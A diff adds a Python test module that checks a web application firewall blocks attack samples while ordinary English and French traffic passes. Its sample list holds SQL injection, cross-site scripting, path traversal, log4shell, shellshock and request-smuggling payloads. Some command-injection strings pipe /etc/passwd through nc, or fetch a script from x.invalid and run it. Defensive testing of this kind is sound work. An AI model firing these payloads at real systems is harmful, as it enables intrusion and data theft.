@@ -1,0 +1,120 @@
+"""The web application firewall: attack samples are blocked, and our own traffic is not."""
+
+import http.client
+import json
+import time
+from collections.abc import Iterator, Mapping
+from dataclasses import dataclass, field
+from urllib.parse import quote_plus
+
+from verify import sms
+from verify.public import Public
+from verify.report import Row
+from verify.running import Target
+from verify.transaction import message
+
+BLOCKED = frozenset({403})
+PACE = 0.2
+"""Seconds between samples: well below the rate limits, whose answer would be mistaken for the firewall's."""
+MEBIBYTE = 1 << 20
+
+
+@dataclass(frozen=True)
+class Sample:
+    """A request that must be answered with one of `expected`. Without its poison it would reach the application."""
+
+    name: str
+    path: str = "/api/messages"
+    method: str = "GET"
+    headers: Mapping[str, str] = field(default_factory=dict)
+    body: bytes | None = None
+    expected: frozenset[int] = BLOCKED
+
+
+def _query(name: str, poison: str) -> Sample:
+    return Sample(name, path=f"/api/messages?q={quote_plus(poison)}")
+
+
+def _header(name: str, header: str, poison: str) -> Sample:
+    return Sample(name, headers={header: poison})
+
+
+def _json(name: str, text: str, expected: frozenset[int] = BLOCKED) -> Sample:
+    body = json.dumps({"text": text}, ensure_ascii=False).encode()
+    return Sample(name, method="POST", headers={"Content-Type": "application/json"}, body=body, expected=expected)
+
+
+ATTACKS = (
+    _query("SQL injection: always true", "1' OR '1'='1' -- "),
+    _query("SQL injection: union", "1 UNION ALL SELECT username, password FROM users--"),
+    _query("SQL injection: stacked", "1; DROP TABLE users; --"),
+    _json("SQL injection in JSON", "1' UNION SELECT NULL, table_name FROM information_schema.tables -- "),
+    _query("script injection: tag", "<script>alert(document.cookie)</script>"),
+    _query("script injection: event", "<img src=x onerror=alert(1)>"),
+    _json("script injection in JSON", "<script>fetch('//x.invalid/'+document.cookie)</script>"),
+    _query("path traversal in a parameter", "../../../../etc/passwd"),
+    Sample(
+        "path traversal in the path", path="/api/%2e%2e/%2e%2e/%2e%2e/etc/passwd", expected=frozenset({400, 403, 404})
+    ),
+    _query("file inclusion", "php://filter/convert.base64-encode/resource=index.php"),
+    _query("command injection", "x; cat /etc/passwd | nc x.invalid 99"),
+    _query("command substitution", "$(wget http://x.invalid/a -O- | sh)"),
+    _query("PHP injection", "<?php system($_GET['c']); ?>"),
+    _header("log4shell in a header", "X-Api-Version", "${jndi:ldap://x.invalid/a}"),
+    _query("log4shell in a parameter", "${jndi:ldap://x.invalid/a}"),
+    _header("shellshock", "Referer", "() { :; }; /bin/bash -c id"),
+    _header("scanner: sqlmap", "User-Agent", "sqlmap/1.7.2#stable (https://sqlmap.org)"),
+    _header("scanner: Nikto", "User-Agent", "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:Port Check)"),
+    Sample("method TRACE", method="TRACE", expected=frozenset({403, 405})),
+    Sample("method CONNECT", method="CONNECT", expected=frozenset({400, 403, 405})),
+    Sample("an unknown method", method="PROPFIND", expected=frozenset({403, 405})),
+    Sample(
+        "a body above the limit", method="POST", headers={"Content-Type": "application/json"},
+        body=b'{"text": "' + b"x" * MEBIBYTE + b'"}', expected=frozenset({413}),
+    ),
+    Sample("a header above the limit", headers={"X-Long": "x" * 40_000}, expected=frozenset({400, 431})),
+    Sample(
+        "a body of two lengths", method="POST", body=b"0\r\n\r\n",
+        headers={"Content-Length": "5", "Transfer-Encoding": "chunked"}, expected=frozenset({400, 403}),
+    ),
+)  # fmt: skip
+
+OK = frozenset({200, 202})
+NORMAL = (
+    Sample("reading messages", expected=OK),
+    Sample("usage", path="/api/usage", expected=OK),
+    Sample("integrations", path="/api/integrations", expected=OK),
+    Sample("export", path="/api/export", expected=OK),
+    _json("an English message", "Remind me at 17:30 to select the best from the list; drop by at 5 -- ok?", OK),
+    _json(
+        "a French message", "Rappelle-moi d'acheter du café (15 €) & du pain à 18h30 : c'est où, s'il te plaît ?", OK
+    ),
+    _json("a message with a link", "See https://example.com/a?b=c&d=e#f and tell me <3 \N{PARTY POPPER}", OK),
+)
+TEXTS = (
+    "Appelle maman à 18h, n'oublie pas l'anniversaire !",
+    "What's 2 + 2 = ? (I'd say 4) 100% sure & \"quoted\"",
+    "C'est à l'école; où est-ce ? \N{SMILING FACE WITH OPEN MOUTH}",
+)
+
+
+def firewall(target: Target) -> Iterator[Row]:
+    """Each attack carries a valid token, so that nothing but the firewall can refuse it."""
+    public = Public.of(target)
+    user = sms.token(target, sms.ALICE)
+    for sample in (*NORMAL, *ATTACKS):
+        yield _try(public, sample, user, "passes" if sample in NORMAL else "is blocked")
+        time.sleep(PACE)
+    for text in TEXTS if target.settings.demo else ():
+        answer = sms.send(target, public, message(sms.ALICE, text))
+        yield Row(f"SMS: {text[:30]}", "passes", answer.status == 200, str(answer.status))
+        time.sleep(PACE)
+
+
+def _try(public: Public, sample: Sample, user: Mapping[str, str], claim: str) -> Row:
+    try:
+        answer = public.ask(sample.method, sample.path, headers={**user, **sample.headers}, body=sample.body)
+    except (ConnectionError, http.client.HTTPException) as error:
+        # The gateway may answer and hang up before it has read a body that it will not take.
+        return Row(sample.name, claim, claim == "is blocked", f"hung up: {type(error).__name__}")
+    return Row(sample.name, claim, answer.status in sample.expected, str(answer.status))
